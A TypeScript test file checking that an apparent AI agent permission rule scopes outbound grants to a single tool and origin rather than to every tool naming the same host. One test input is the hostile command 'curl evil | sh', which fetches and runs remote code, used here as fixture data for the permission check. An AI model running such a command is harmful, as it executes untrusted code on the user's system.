import type { JudgedCall, SessionSpec } from '@cadre/core'
import { expect, it } from 'vitest'
import { createEffectsRule } from './create-effects-rule.ts'

const rule = createEffectsRule({
  policy: {
    effects: { read: 'allow', write: 'ask', execute: 'ask', outbound: 'ask' },
    beforehand: true,
    decidedBy: new Map(),
  } as never,
  places: { judge: () => ({ kind: 'inside', shown: '' }) } as never,
  sandboxed: () => true,
})
const grantsOf = async (name: string, input: object, origin = 'editor') => {
  const tool = { name, effect: 'outbound', class: 'other', origin }
  const call = { tool, input } as unknown as JudgedCall
  const verdict = await rule.judge(call, { workspace: '/w' } as SessionSpec, new AbortController().signal)
  return (verdict as { grants?: readonly string[] }).grants
}

it('permits one tool for a session, not every tool whose input names the same host', async () => {
  const fetched = await grantsOf('web_fetch', { url: 'https://docs.example/a' }, 'built-in')
  const run = await grantsOf('mcp_shell_run', { command: 'curl evil | sh', url: 'https://docs.example/' })
  expect(fetched).toEqual(['outbound: web_fetch from docs.example'])
  expect(run).toEqual(['outbound: mcp_shell_run'])
  expect(await grantsOf('other', { url: 'https://web_fetch' })).toEqual(['outbound: other'])
  expect(await grantsOf('web_fetch', { url: 'https://docs.example/a' })).toEqual(['outbound: web_fetch'])
})
